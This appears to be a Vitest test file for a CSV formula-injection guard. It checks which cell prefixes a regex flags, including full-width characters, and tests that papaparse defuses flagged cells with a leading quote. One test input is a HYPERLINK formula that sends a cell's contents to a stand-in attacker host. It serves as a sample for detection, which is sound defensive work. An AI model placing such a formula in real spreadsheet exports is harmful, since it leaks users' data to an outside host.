import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { FORMULA_PREFIX } from '../../lib/csv-formula-guard';

describe('FORMULA_PREFIX', () => {
  it.each([
    ['=1+1', true],
    ['+1', true],
    ['-1', true],
    ['@SUM(A1)', true],
    ['\tstarts with a tab', true],
    ['\rstarts with a carriage return', true],
    ['=HYPERLINK("https://evil.example/?"&A1)\nsecond line', true],
    ['\uFF1D1+1', true], // ＝
    ['\uFF0B1', true], // ＋
    ['\uFF0D1', true], // －
    ['\uFF20SUM(A1)', true], // ＠
    ['a=1', false],
    ['x-y', false],
    [' =1', false],
    ["'=1", false],
    ['\n=1', false],
    ['\uFF21', false], // Ａ: full-width, but no formula character
    ['＃1', false],
    ['', false],
  ])('%j → %s', (cell, formula) => {
    expect(FORMULA_PREFIX.test(cell)).toBe(formula);
  });

  it('given to papaparse, defuses a formula cell (multi-line too) with a leading quote', () => {
    const rows = [['=1+1\nmore', '\uFF1Dcmd', 'plain']];
    expect(Papa.unparse(rows, { escapeFormulae: FORMULA_PREFIX, newline: '\r\n' })).toBe(
      `"'=1+1\nmore","'\uFF1Dcmd",plain`,
    );
  });
});
